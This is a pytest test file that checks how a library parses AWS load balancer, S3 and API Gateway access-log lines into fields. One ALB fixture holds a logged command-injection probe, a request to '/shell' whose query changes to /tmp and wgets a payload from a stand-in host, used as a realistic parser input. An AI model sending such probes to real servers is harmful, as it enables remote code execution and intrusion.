"""The text logs of AWS: load balancers, S3, API Gateway."""

from __future__ import annotations

import pytest

from tests.line_tables import Lines, at, cells
from usagestats.logs.formats.aws_api_gateway import API_GATEWAY
from usagestats.logs.formats.aws_load_balancer import ALB, CLASSIC_ELB
from usagestats.logs.formats.aws_s3 import S3
from usagestats.logs.readers.log_format import LogFormat, NoRequestError

ALB_LINES: Lines = [
    (
        "TLS, with a target group",
        "https 2018-07-02T22:23:00.186641Z app/lb/50dc 192.168.131.39:2817 10.0.0.1:80 0.086 0.048 0.037 200 201 34 57"
        ' "GET https://www.Example.com:443/a?b=c HTTP/1.1" "curl/7.46.0" ECDHE-RSA TLSv1.2'
        " arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2"
        ' "Root=1-5833" "sni.example.com" "arn:aws:acm:x" 0 2018-07-02T22:22:48.364000Z "authenticate,forward" "-" "-"',
        {
            "time": at(2018, 7, 2, 22, 23, 0, 186_641),
            "http_method": "GET",
            "host": "www.example.com",
            "path": "/a",
            "query": "b=c",
            "status": 200,
            "upstream_status": 201,
            "response_bytes": 57,
            "duration_ms": 171.0,
            "remote_address": "192.168.131.39",
            "service": "my-targets",
            "user_agent": "curl/7.46.0",
            "fields": {"domain_name": "sni.example.com", "trace_id": "Root=1-5833"},
        },
    ),
    (
        "a path with spaces, and a redirect that reached no target",
        "http 2022-05-12T06:41:29.051646Z app/a/3011 67.43.156.20:41542 - -1 -1 -1 301 - 233 390"
        ' "GET http://127.0.0.1:80/shell?cd+/tmp;wget+ a.example.org/jaws HTTP/1.1" "Hello, world" - - - "Root=1-6"'
        ' "-" "-" 0 2022-05-12T06:41:29.051000Z "redirect" "https://x/" "-" "-" "-" "Acceptable" "SpaceInUri"',
        {
            "host": "127.0.0.1",
            "path": "/shell",
            "query": "cd+/tmp;wget+ a.example.org/jaws",
            "duration_ms": None,
            "upstream_status": 0,
            "service": None,
            "status": 301,
        },
    ),
    (
        "no request that could be read",
        "http 2018-11-30T22:23:00.186641Z app/lb/50dc 192.168.131.39:2817 - -1 -1 -1 400 - 0 0"
        ' "- http://www.example.com:80- -" "-" - - - "-" "-" "-" 0 2018-11-30T22:22:48.364000Z "-" "-" "-"',
        {"http_method": None, "path": None, "status": 400, "user_agent": None},
    ),
]
ELB_LINES: Lines = [
    (
        "HTTP",
        "2015-05-13T23:39:43.945958Z lb 192.168.131.39:2817 10.0.0.1:80 0.000073 0.001048 0.000057 200 200 0 29"
        ' "GET http://www.example.com:80/ HTTP/1.1" "curl/7.38.0" - -',
        {
            "time": at(2015, 5, 13, 23, 39, 43, 945_958),
            "host": "www.example.com",
            "path": "/",
            "duration_ms": 1.178,
            "response_bytes": 29,
            "fields": {"elb": "lb", "target_address": "10.0.0.1:80"},
        },
    ),
    (
        "TCP",
        "2015-05-13T23:39:43.945958Z lb 192.168.131.39:2817 10.0.0.1:80 0.001069 0.000028 0.000041 - - 82 305"
        ' "- - - " "-" - -',
        {"http_method": None, "status": None, "response_bytes": 305, "duration_ms": 1.138},
    ),
    (
        "before the user agent was logged",
        '2014-02-15T23:39:43.945958Z lb 1.2.3.4:2817 10.0.0.1:80 0.1 0.2 0.3 200 200 0 29 "GET http://h:80/x HTTP/1.1"',
        {"path": "/x", "duration_ms": 600.0, "user_agent": None},
    ),
]
OWNER = "79a5" * 16
S3_LINES: Lines = [
    (
        "an object",
        f"{OWNER} bucket [06/Feb/2019:00:00:38 +0000] 192.0.2.3 {OWNER} 3E57 REST.GET.OBJECT a/b.gz"
        ' "GET /bucket/a/b.gz?versioning HTTP/1.1" 200 - 113 118 7 5 "-" "S3Console/0.4" - s9lz= SigV2 ECDHE AuthHeader'
        " bucket.s3.amazonaws.com TLSV1.1 -",
        {
            "time": at(2019, 2, 6, 0, 0, 38),
            "service": "bucket",
            "path": "/bucket/a/b.gz",
            "query": "versioning",
            "response_bytes": 113,
            "duration_ms": 7.0,
            "remote_user": OWNER,
            "host": "bucket.s3.amazonaws.com",
            "user_agent": "S3Console/0.4",
            "fields": {"operation": "REST.GET.OBJECT"},
        },
    ),
    (
        "a batch has no request",
        f"{OWNER} bucket [10/Sep/2019:15:11:07 +0000] 81.2.69.193 arn:aws:iam::1:user/t@e.co 8CD7 BATCH.DELETE.OBJECT"
        " a+b.war - 204 - - 344017 - - - - - IeDW= SigV4 ECDHE AuthHeader s3.eu-central-1.amazonaws.com TLSv1.2",
        {
            "http_method": None,
            "path": None,
            "status": 204,
            "response_bytes": None,
            "duration_ms": None,
        },
    ),
    (
        "quotation marks in the user agent, nothing behind the version",
        f'{OWNER} bucket [10/Sep/2019:15:11:07 +0000] - - 8CD7 REST.GET.OBJECT a "GET /a HTTP/1.1" 200 - 1 1 2 1 "-"'
        ' "a "b" c" -',
        {"user_agent": 'a "b" c', "remote_address": None, "host": None},
    ),
]
API_LINES: Lines = [
    (
        "CLF of a REST API",
        '1.128.0.0 - ann [19/Jul/2023:16:15:46 +0000] "GET /pets/{petId} HTTP/1.1" 200 49'
        " caa4a500-2651-4476-aa1f-a639b858819b IUvPCEF9joEFQgQ=",
        {
            "time": at(2023, 7, 19, 16, 15, 46),
            "path": "/pets/{petId}",
            "remote_user": "ann",
            "status": 200,
            "fields": {"request_id": "caa4a500-2651-4476-aa1f-a639b858819b"},
        },
    ),
    (
        "CLF of an HTTP API: the route key names the method again; two spaces",
        '1.128.0.0 -  - [09/Jun/2023:12:54:08 +0000] "GET GET /pets HTTP/1.1" 200 47140 GQIVriFLIAMEMsA=',
        {"http_method": "GET", "path": "/pets", "response_bytes": 47140},
    ),
    (
        "the default route",
        '1.128.0.0 - - [09/Jun/2023:12:54:08 +0000] "GET $default HTTP/1.1" 404 13 GQIVriFLIAMEMsA=',
        {"path": "$default", "status": 404},
    ),
    (
        "CSV of a REST API",
        "1.128.0.0,-,ann,19/Jul/2023:16:15:46 +0000,GET,/pets,HTTP/1.1,200,49,caa4a500-2651-4476-aa1f-a639b858819b,x=",
        {"path": "/pets", "remote_user": "ann", "status": 200, "response_bytes": 49},
    ),
    (
        "CSV of an HTTP API",
        "1.128.0.0,09/Jun/2023:12:54:08 +0000,POST,POST /pets,HTTP/1.1,201,5,GQIVriFLIAMEMsA=",
        {"http_method": "POST", "path": "/pets", "status": 201, "remote_user": None},
    ),
]
TABLE = [
    pytest.param(log_format, line, expected, id=f"{log_format.name}: {name}")
    for log_format, lines in (
        (ALB, ALB_LINES),
        (CLASSIC_ELB, ELB_LINES),
        (S3, S3_LINES),
        (API_GATEWAY, API_LINES),
    )
    for name, line, expected in lines
]


@pytest.mark.parametrize(("log_format", "line", "expected"), TABLE)
def test_a_line_says(log_format: LogFormat, line: str, expected: dict[str, object]) -> None:
    assert cells(log_format, line, expected) == expected


@pytest.mark.parametrize(
    ("log_format", "line"),
    [
        (
            ALB,
            "tls 1.0 2018-12-20T02:59:40 net/lb/c6e7 g3d4 89.160.20.112:51341 172.100.100.185:443 5 2 98 246 -",
        ),
        (
            S3,
            f"{OWNER} bucket [06/Foo/2019:00:00:38 +0000] 1.2.3.4 - 3E57 REST.GET.OBJECT a - 200 - 1 1 1 1 - - -",
        ),
        (
            API_GATEWAY,
            '1.2.3.4 - - [09/Jun/2023:12:54:08 +0000] "GET /pets HTTP/1.1" 200 47140 "-" "curl/8"',
        ),
        (API_GATEWAY, '<request id="GQIV"> <ip>1.2.3.4</ip>'),
    ],
)
def test_others_are_refused(log_format: LogFormat, line: str) -> None:
    with pytest.raises(NoRequestError):
        log_format.read_line(line)
